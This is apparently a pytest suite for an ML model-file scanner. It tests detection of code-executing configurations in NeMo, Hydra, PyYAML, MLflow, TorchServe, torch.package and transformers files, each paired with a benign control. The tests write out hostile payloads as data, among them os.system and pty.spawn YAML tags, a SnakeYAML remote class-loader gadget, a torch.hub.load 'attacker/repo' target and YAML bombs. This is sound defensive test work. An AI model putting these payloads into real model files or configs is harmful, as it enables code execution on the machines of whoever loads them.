"""Configuration that instantiates code (issue 11 section 1): one test per technique, named
after its advisory, each beside a benign control built the honest way.

Fixtures come from the real libraries where they are installed (torch, torch.package,
safetensors, huggingface_hub's PyTorchModelHubMixin, transformers, scikit-learn); NeMo,
MLflow, Hydra and TorchServe's archiver are not installed, so their files are written in
their documented formats. Nothing is ever loaded: every payload would create a marker file.
"""

from __future__ import annotations

import io
import json
import pickle
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
import torch
import yaml
from factories import assert_benign, assert_caught, describe, rules_found, scan, write
from huggingface_hub import PyTorchModelHubMixin
from hypothesis import given, settings
from hypothesis import strategies as st
from payloads import os_system, shell
from safetensors.torch import save_file
from sklearn.linear_model import LogisticRegression
from test_hf_repo import make_repo

from mlgate import Report, Severity
from mlgate.scan.formats.yaml_reader import read_yaml

CODE_EXECUTION, DYNAMIC, UNSAFE_REF, REMOTE_CODE, LOADS_CODE = (
    "MLG101",
    "MLG104",
    "MLG111",
    "MLG116",
    "MLG117",
)
LIMIT, MALFORMED = "MLG301", "MLG201"

NEMO_CONFIG = """\
target: nemo.collections.asr.models.EncDecCTCModel
nemo_version: 2.0.0
sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: ${sample_rate}
decoder:
  _target_: torch.nn.modules.linear.Linear
  in_features: 8
  out_features: 4
optim:
  name: adamw
  lr: 0.001
"""


def _with(report: Report, rule: str, text: str, at_least: Severity = Severity.HIGH) -> bool:
    return any(f.rule_id == rule and text in f.message for f in report.at_or_above(at_least))


def _tar(path: Path, members: dict[str, bytes], mode: str = "w") -> Path:
    with tarfile.open(path, mode) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def _weights() -> bytes:
    buf = io.BytesIO()
    torch.save({"decoder.weight": torch.zeros(4, 8)}, buf)
    return buf.getvalue()


def _nemo(path: Path, config: str, mode: str = "w") -> Path:
    """A .nemo archive as NeMo's SaveRestoreConnector writes it: a tar of the config and
    the weights (optionally gzipped)."""
    members = {"./model_config.yaml": config.encode(), "./model_weights.ckpt": _weights()}
    return _tar(path, members, mode)


# --- Hydra / OmegaConf targets: NeMo, Uni2TS, FlexTok (CVE-2025-23304, Unit 42 2025) ---------
def test_cve_2025_23304_nemo_target_runs_a_command(tmp_path: Path) -> None:
    evil = NEMO_CONFIG + f"trainer_hook:\n  _target_: os.system\n  command: {shell('nemo')}\n"
    report = scan(_nemo(tmp_path / "asr.nemo", evil))
    assert_caught(report, CODE_EXECUTION, Severity.CRITICAL)
    assert _with(report, CODE_EXECUTION, "instantiates os.system"), describe(report)


def test_cve_2025_23304_nemo_gzipped_and_builtins_exec(tmp_path: Path) -> None:
    evil = NEMO_CONFIG + "hook:\n  _target_: builtins.exec\n  _args_: ['import os']\n"
    report = scan(_nemo(tmp_path / "asr.nemo", evil, "w:gz"))
    assert _with(report, CODE_EXECUTION, "builtins.exec", Severity.CRITICAL), describe(report)


def test_nemo_benign_control(tmp_path: Path) -> None:
    report = scan(_nemo(tmp_path / "asr.nemo", NEMO_CONFIG))
    assert_benign(report)
    # NeMo's own classes are what the policy says of them (unknown), torch layers allowlisted.
    medium = {f.evidence for f in report.findings if f.severity is Severity.MEDIUM}
    assert medium == {
        "nemo.collections.asr.models.EncDecCTCModel",
        "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
    }, describe(report)


def test_hydra_target_hidden_behind_interpolation(tmp_path: Path) -> None:
    config = "cmd: subprocess.check_output\nstep:\n  _target_: ${cmd}\n  args: [[id]]\n"
    report = scan(write(tmp_path / "config.yaml", config.encode()))
    assert _with(report, CODE_EXECUTION, "subprocess.check_output"), describe(report)
    unresolved = "step:\n  _target_: ${oc.env:TARGET}\n"
    report = scan(write(tmp_path / "env.yaml", unresolved.encode()))
    assert_caught(report, DYNAMIC)


def test_latent_diffusion_target_params(tmp_path: Path) -> None:
    honest = "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    lr: 1\n"
    report = scan(write(tmp_path / "v1-inference.yaml", honest.encode()))
    assert_benign(report)
    assert _with(report, UNSAFE_REF, "LatentDiffusion", Severity.MEDIUM), describe(report)
    evil = "model:\n  target: torch.hub.load\n  params:\n    repo_or_dir: attacker/repo\n"
    assert_caught(scan(write(tmp_path / "evil.yaml", evil.encode())), CODE_EXECUTION)
    # Without params, "target" is an ordinary word unless it names a class or a denied name.
    plain = "metric:\n  target: model.onnx\n  other: ${missing.key}\nlabel:\n  target: ${x}\n"
    report = scan(write(tmp_path / "plain.yaml", plain.encode()))
    assert not report.at_or_above(Severity.MEDIUM), describe(report)
    assert_caught(
        scan(write(tmp_path / "bare.yaml", b"hook:\n  target: os.system\n")), CODE_EXECUTION
    )


class _Module(torch.nn.Module, PyTorchModelHubMixin):
    """A model saved the Uni2TS way: its init kwargs (a Hydra node) go to config.json."""

    def __init__(self, module_kwargs: dict[str, Any]) -> None:
        super().__init__()
        self.module_kwargs = module_kwargs
        self.proj = torch.nn.Linear(2, 2)


def test_unit42_uni2ts_hydra_target_in_config_json(tmp_path: Path) -> None:
    evil = {"_target_": "os.system", "command": shell("uni2ts")}
    _Module({"encoder": evil}).save_pretrained(tmp_path / "evil")
    report = scan(tmp_path / "evil")
    assert _with(report, CODE_EXECUTION, "os.system"), describe(report)
    honest = {"_target_": "torch.nn.modules.linear.Linear", "in_features": 2, "out_features": 2}
    _Module({"encoder": honest}).save_pretrained(tmp_path / "honest")
    report = scan(tmp_path / "honest")
    assert_benign(report)
    assert not report.at_or_above(Severity.MEDIUM), describe(report)


def test_unit42_flextok_hydra_target_in_safetensors_metadata(tmp_path: Path) -> None:
    tensors = {"w": torch.zeros(2, 2)}
    config = {"encoder": {"_target_": "runpy.run_path", "path_name": "/tmp/x.py"}}
    save_file(tensors, str(tmp_path / "evil.safetensors"), metadata={"config": json.dumps(config)})
    report = scan(tmp_path / "evil.safetensors")
    assert _with(report, CODE_EXECUTION, "runpy.run_path"), describe(report)
    config["encoder"]["_target_"] = "torch.nn.modules.linear.Linear"
    save_file(tensors, str(tmp_path / "ok.safetensors"), metadata={"config": json.dumps(config)})
    report = scan(tmp_path / "ok.safetensors")
    assert_benign(report)
    assert not report.at_or_above(Severity.MEDIUM), describe(report)


# --- YAML tags: PyYAML unsafe loaders, SnakeYAML (CVE-2017-18342, CVE-2022-1471) --------------
def test_cve_2017_18342_pyyaml_python_tags(tmp_path: Path) -> None:
    evil = f"hook: !!python/object/apply:os.system ['{shell('pyyaml')}']\n"
    report = scan(write(tmp_path / "hparams.yaml", evil.encode()))
    assert _with(report, CODE_EXECUTION, "os.system", Severity.CRITICAL), describe(report)
    # The same tag spelt through a %TAG handle and verbatim: the parser resolves both.
    handle = "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:posix.system [id]\n"
    assert_caught(scan(write(tmp_path / "handle.yaml", handle.encode())), CODE_EXECUTION)
    verbatim = "x: !<tag:yaml.org,2002:python/object/new:pty.spawn> [sh]\n"
    assert_caught(scan(write(tmp_path / "verbatim.yaml", verbatim.encode())), CODE_EXECUTION)
    name = "fn: !!python/name:subprocess.getoutput ''\n"
    assert_caught(scan(write(tmp_path / "name.yaml", name.encode())), CODE_EXECUTION)
    # Application tags are MEDIUM (only a registered constructor builds them); however many
    # there are, a Python tag among them is still judged.
    many = "".join(f"k{i}: !local{i} x\n" for i in range(30)) + "z: !!python/name:os.system ''\n"
    report = scan(write(tmp_path / "many.yaml", many.encode()))
    assert _with(report, CODE_EXECUTION, "os.system"), describe(report)
    assert _with(report, UNSAFE_REF, "10 more tags", Severity.MEDIUM), describe(report)
    data = "shape: !!python/tuple [1, 2]\nlr: !!float 0.1\n"
    report = scan(write(tmp_path / "data.yaml", data.encode()))
    assert_benign(report)
    assert not report.at_or_above(Severity.MEDIUM), describe(report)


def test_cve_2022_1471_snakeyaml_tag_in_torchserve_model_config(tmp_path: Path) -> None:
    gadget = '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://127.0.0.1:1/"]]]]'
    config = f"minWorkers: 1\nmaxWorkers: 1\nhandler:\n  x: {gadget}\n"
    report = scan(_mar(tmp_path / "m.mar", "image_classifier", {"model-config.yaml": config}))
    assert _with(report, UNSAFE_REF, "ScriptEngineManager"), describe(report)


# --- bounds of the YAML reader -----------------------------------------------------------------
def test_yaml_billion_laughs_is_reported_not_expanded(tmp_path: Path) -> None:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    start = time.monotonic()
    report = scan(write(tmp_path / "bomb.yaml", "\n".join(lines).encode()))
    assert time.monotonic() - start < 10
    assert_caught(report, LIMIT)
    recursive = "a: &a\n  - *a\n"
    assert_caught(scan(write(tmp_path / "loop.yaml", recursive.encode())), LIMIT)


def test_yaml_nested_deeper_than_the_bound(tmp_path: Path) -> None:
    deep = "".join(f"{'  ' * i}k{i}:\n" for i in range(2000)) + f"{'  ' * 2000}v\n"
    report = scan(write(tmp_path / "deep.yaml", deep.encode()))
    assert_caught(report, LIMIT)


_TEXT = st.text(max_size=8)
_PLAIN = st.recursive(
    st.none() | _TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_TEXT, inner, max_size=4),
    max_leaves=30,
)


@settings(max_examples=150, deadline=None)
@given(_PLAIN)
def test_yaml_reader_reads_what_safe_load_reads(value: Any) -> None:
    """The bounded reader builds the same plain values as yaml.safe_load (for block and flow
    styles), so what it judges is what a loader would act on."""
    for flow in (False, True):
        text = yaml.safe_dump({"v": value}, default_flow_style=flow, allow_unicode=True)
        reading = read_yaml(text.encode(), 10_000, 10_000)
        assert reading.documents == [yaml.safe_load(text)]


def test_yaml_repeated_key_hides_an_earlier_target(tmp_path: Path) -> None:
    config = "node:\n  _target_: os.system\n  _target_: torch.nn.modules.linear.Linear\n"
    report = scan(write(tmp_path / "dup.yaml", config.encode()))
    assert _with(report, CODE_EXECUTION, "os.system"), describe(report)
    assert "MLG201" in rules_found(report)


def test_pickle_named_yaml_is_still_a_pickle(tmp_path: Path) -> None:
    report = scan(write(tmp_path / "config.yaml", os_system("yaml-pickle")))
    assert_caught(report, CODE_EXECUTION, Severity.CRITICAL)
    assert "MLG207" in rules_found(report)


# --- MLflow MLmodel (loader_module, code_paths, models from code) --------------------------------
def _mlflow_model(folder: Path, pyfunc: dict[str, Any], sklearn_code: str | None = None) -> Path:
    """An MLflow model folder in the documented MLmodel format, with a real sklearn pickle."""
    flavors = {
        "python_function": {
            "env": {"conda": "conda.yaml"},
            "model_path": "model.pkl",
            "predict_fn": "predict",
            "python_version": "3.11.9",
            **pyfunc,
        },
        "sklearn": {
            "code": sklearn_code,
            "pickled_model": "model.pkl",
            "serialization_format": "pickle",
            "sklearn_version": "1.9.1",
        },
    }
    lines = ["artifact_path: model", "flavors:"]
    lines += [f"  {name}: {json.dumps(conf)}" for name, conf in flavors.items()]
    lines += ["mlflow_version: 2.19.0", "model_uuid: 0a1b2c"]
    write(folder / "MLmodel", "\n".join(lines).encode())
    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    write(folder / "model.pkl", pickle.dumps(model))
    write(folder / "conda.yaml", b"name: mlflow-env\ndependencies:\n  - python=3.11.9\n")
    return folder


def test_mlflow_benign_sklearn_model(tmp_path: Path) -> None:
    report = scan(_mlflow_model(tmp_path / "m", {"loader_module": "mlflow.sklearn"}))
    assert_benign(report)
    assert any(a.format == "mlmodel" for a in report.artifacts), report.artifacts


def test_mlflow_loader_module_outside_mlflow_is_high(tmp_path: Path) -> None:
    folder = _mlflow_model(tmp_path / "m", {"loader_module": "custom_loader"})
    write(folder / "custom_loader.py", b"def _load_pyfunc(path):\n    return None\n")
    assert _with(scan(folder), LOADS_CODE, "custom_loader")
    folder = _mlflow_model(tmp_path / "os", {"loader_module": "os"})
    assert_caught(scan(folder), CODE_EXECUTION, Severity.CRITICAL)


def test_mlflow_code_paths_and_models_from_code(tmp_path: Path) -> None:
    folder = _mlflow_model(tmp_path / "m", {"loader_module": "mlflow.sklearn"}, "code")
    write(folder / "code" / "helpers.py", f"import os\nos.system({shell('mlflow')!r})\n".encode())
    report = scan(folder)
    assert _with(report, LOADS_CODE, "code directory 'code' (present, its files analysed)"), (
        describe(report)
    )
    assert_caught(report, "MLG402")  # the module itself is analysed as source
    folder = _mlflow_model(
        tmp_path / "fc", {"loader_module": "mlflow.pyfunc.model", "model_code_path": "model.py"}
    )
    assert _with(scan(folder), LOADS_CODE, "model_code_path")


# --- TorchServe .mar (handler, model file, requirements; ShellTorch) ----------------------------
def _mar(path: Path, handler: str, extra: dict[str, str] | None = None, **model: str) -> Path:
    """A TorchServe archive as torch-model-archiver writes it: MAR-INF/MANIFEST.json and the
    files it names, around a real TorchScript model."""
    scripted = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), scripted)
    manifest = {
        "createdOn": "01/12/2026 10:00:00",
        "runtime": "python",
        "archiverVersion": "0.12.0",
        "model": {
            "modelName": "m",
            "serializedFile": "model.pt",
            "handler": handler,
            "modelVersion": "1.0",
            **model,
        },
    }
    members = {
        "MAR-INF/MANIFEST.json": json.dumps(manifest).encode(),
        "model.pt": scripted.getvalue(),
    }
    members.update({k: v.encode() for k, v in (extra or {}).items()})
    return _zip(path, members)


def test_torchserve_builtin_handler_benign(tmp_path: Path) -> None:
    report = scan(_mar(tmp_path / "m.mar", "image_classifier"))
    assert_benign(report)
    assert [a.format for a in report.artifacts][-1] == "torchserve-mar", report.artifacts


def test_torchserve_handler_code_in_archive(tmp_path: Path) -> None:
    run = f"subprocess.run({shell('ts')!r}, shell=True)"
    handler = f"import subprocess\ndef handle(data, context):\n    {run}\n"
    report = scan(_mar(tmp_path / "m.mar", "handler.py", {"handler.py": handler}))
    assert _with(report, LOADS_CODE, "'handler.py' (handler.py: present, analysed)"), describe(
        report
    )
    assert_caught(report, "MLG402")
    # A file named like a built-in handler replaces it (the model folder is first on sys.path).
    shadow = _mar(tmp_path / "s.mar", "image_classifier", {"image_classifier.py": "import torch\n"})
    assert _with(scan(shadow), LOADS_CODE, "image_classifier")


def test_torchserve_handler_from_environment_and_requirements(tmp_path: Path) -> None:
    report = scan(_mar(tmp_path / "m.mar", "os:system"))
    assert _with(report, CODE_EXECUTION, "os.system", Severity.CRITICAL), describe(report)
    reqs = _mar(
        tmp_path / "r.mar",
        "image_classifier",
        {"requirements.txt": "evil==1\n"},
        requirementsFile="requirements.txt",
        modelFile="../model.py",
    )
    report = scan(reqs)
    assert _with(report, LOADS_CODE, "pip-installs"), describe(report)
    assert "MLG206" in rules_found(report)  # modelFile escaping the archive


# --- torch.package ---------------------------------------------------------------------------
def test_torch_package_executes_stored_modules(tmp_path: Path) -> None:
    path = tmp_path / "evil.pt"
    with torch.package.PackageExporter(str(path)) as exporter:
        exporter.extern(["os", "torch.**", "builtins", "collections"])
        exporter.save_source_string("hook", f"import os\nos.system({shell('package')!r})\n")
        exporter.save_pickle("model", "model.pkl", torch.nn.Sequential(torch.nn.Linear(2, 2)))
    report = scan(path)
    assert _with(report, LOADS_CODE, "'evil/hook.py'"), describe(report)
    assert _with(report, LOADS_CODE, "os (operating system interface"), describe(report)
    assert_caught(report, "MLG402")
    assert report.artifacts[-1].format == "torch-package"


def test_torch_package_benign_externs_only(tmp_path: Path) -> None:
    path = tmp_path / "ok.pt"
    with torch.package.PackageExporter(str(path)) as exporter:
        exporter.extern(["torch.**", "builtins", "collections"])
        exporter.save_pickle("model", "model.pkl", torch.nn.Sequential(torch.nn.Linear(2, 2)))
    report = scan(path)
    assert_benign(report)
    assert not report.at_or_above(Severity.MEDIUM), describe(report)


# --- transformers: auto_map everywhere, custom_generate, Hub kernels ------------------------------
def _hf(folder: Path, **extra: Any) -> Path:
    """A small honest repository (test_hf_repo's), with ``extra`` keys in its config.json."""
    make_repo(folder)
    if extra:
        doc = json.loads((folder / "config.json").read_text())
        doc.update(extra)
        (folder / "config.json").write_text(json.dumps(doc))
    return folder


def test_auto_map_in_tokenizer_and_processor_configs(tmp_path: Path) -> None:
    folder = _hf(tmp_path / "m")
    tok = {"tokenizer_class": "X", "auto_map": ["tokenization_x.XTokenizer", None]}
    write(folder / "tokenizer_config.json", json.dumps(tok).encode())
    proc = {"image_processor": {"auto_map": {"AutoImageProcessor": "evil--proc.P"}}}
    write(folder / "processor_config.json", json.dumps(proc).encode())
    report = scan(folder)
    assert _with(report, REMOTE_CODE, "tokenization_x.XTokenizer"), describe(report)
    assert _with(report, REMOTE_CODE, "another repository, 'evil'"), describe(report)


def test_custom_generate_folder_is_repository_code(tmp_path: Path) -> None:
    folder = _hf(tmp_path / "m")
    assert_benign(scan(folder))
    write(
        folder / "custom_generate" / "generate.py", b"def generate(model, **kw):\n    return None\n"
    )
    report = scan(folder)
    assert _with(report, REMOTE_CODE, "custom_generate/generate.py"), describe(report)


def test_attn_implementation_naming_a_hub_kernel(tmp_path: Path) -> None:
    report = scan(_hf(tmp_path / "k", attn_implementation="attacker/flash-attn@main"))
    assert _with(report, LOADS_CODE, "outside kernels-community"), describe(report)
    nested = {"text_config": {"_attn_implementation": "kernels-community/flash-attn"}}
    assert _with(scan(_hf(tmp_path / "n", **nested)), LOADS_CODE, "kernels-community/flash-attn")
    report = scan(_hf(tmp_path / "ok", attn_implementation="sdpa"))
    assert_benign(report)
    assert not report.at_or_above(Severity.MEDIUM), describe(report)


@pytest.mark.parametrize("value", ["flash_attention_2", "eager", "paged|eager"])
def test_attn_implementation_builtin_values_are_not_kernels(tmp_path: Path, value: str) -> None:
    report = scan(_hf(tmp_path / "m", attn_implementation=value))
    assert not report.at_or_above(Severity.MEDIUM), describe(report)


def test_lightning_cli_class_path(tmp_path: Path) -> None:
    honest = "optimizer:\n  class_path: torch.optim.Adam\n  init_args:\n    lr: 0.001\n"
    report = scan(write(tmp_path / "config.yaml", honest.encode()))
    assert_benign(report)
    assert not report.at_or_above(Severity.MEDIUM), describe(report)
    evil = "model:\n  class_path: torch.utils.cpp_extension.load_inline\n  init_args: {}\n"
    assert_caught(scan(write(tmp_path / "evil.yaml", evil.encode())), CODE_EXECUTION)


def test_sentence_transformers_modules_json(tmp_path: Path) -> None:
    modules = [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {
            "idx": 1,
            "name": "1",
            "path": "1_Pooling",
            "type": "sentence_transformers.models.Pooling",
        },
    ]
    report = scan(write(tmp_path / "ok" / "modules.json", json.dumps(modules).encode()))
    assert not report.at_or_above(Severity.MEDIUM), describe(report)
    modules[1]["type"] = "subprocess.Popen"
    report = scan(write(tmp_path / "evil" / "modules.json", json.dumps(modules).encode()))
    assert _with(report, CODE_EXECUTION, "subprocess.Popen"), describe(report)


def test_mlmodel_in_json_flow_style(tmp_path: Path) -> None:
    doc = {"flavors": {"python_function": {"loader_module": "builtins", "code": None}}}
    report = scan(write(tmp_path / "MLmodel", json.dumps(doc).encode()))
    assert _with(report, LOADS_CODE, "'builtins'"), describe(report)


def test_absurdly_long_target_is_judged_without_blowing_up(tmp_path: Path) -> None:
    config = "node:\n  _target_: " + ".".join(["a"] * 200_000) + "\n"
    start = time.monotonic()
    report = scan(write(tmp_path / "long.yaml", config.encode()))
    assert time.monotonic() - start < 10
    assert_caught(report, DYNAMIC)


@pytest.mark.parametrize("name", ["helpers.py", "config.yaml"])
def test_text_with_a_zlib_looking_start_is_read_as_text(tmp_path: Path, name: str) -> None:
    # b"x " is a valid zlib header (0x7820 % 31 == 0): "x = 1" must stay Python (or YAML).
    report = scan(write(tmp_path / name, b"x = 1\n" if name.endswith(".py") else b"x  : 1\n"))
    assert_benign(report)
    assert report.artifacts[0].format in ("python", "yaml"), report.artifacts


def test_many_repeated_keys_sharing_a_large_alias_stay_linear(tmp_path: Path) -> None:
    big = "base: &big [" + ", ".join(f"{{v: {i}}}" for i in range(20_000)) + "]\n"
    text = big + "node:\n" + "  k: *big\n" * 20_000 + "  _target_: os.system\n"
    start = time.monotonic()
    report = scan(write(tmp_path / "dups.yaml", text.encode()))
    assert time.monotonic() - start < 20
    assert _with(report, CODE_EXECUTION, "os.system"), describe(report)
    assert _with(report, MALFORMED, "and 19994 more", Severity.MEDIUM), describe(report)


def test_nemo2_fiddle_pyref_in_io_json(tmp_path: Path) -> None:
    """NeMo 2 checkpoints keep their config as fiddle JSON (context/io.json): every class and
    function is a pyref that fiddle's default policy imports."""

    def pyref(module: str, name: str) -> dict[str, str]:
        return {"type": "pyref", "module": module, "name": name}

    def io_json(model: dict[str, str]) -> bytes:
        config = {"type": pyref("fiddle._src.config", "Config"), "items": [["fn", model]]}
        dtype = {"type": "leaf", "value": pyref("torch", "bfloat16")}
        doc = {
            "root": {"type": "ref", "key": "trainer_1"},
            "version": "0.0.1",
            "objects": {"trainer_1": config, "dtype_1": dtype},
            "refcounts": {},
        }
        return json.dumps(doc).encode()

    honest = io_json(pyref("nemo.collections.llm.gpt.model.llama", "LlamaModel"))
    report = scan(write(tmp_path / "ok" / "context" / "io.json", honest))
    assert_benign(report)
    assert _with(report, UNSAFE_REF, "LlamaModel", Severity.MEDIUM), describe(report)
    evil = io_json(pyref("subprocess", "Popen"))
    report = scan(write(tmp_path / "evil" / "context" / "io.json", evil))
    assert _with(report, CODE_EXECUTION, "subprocess.Popen"), describe(report)
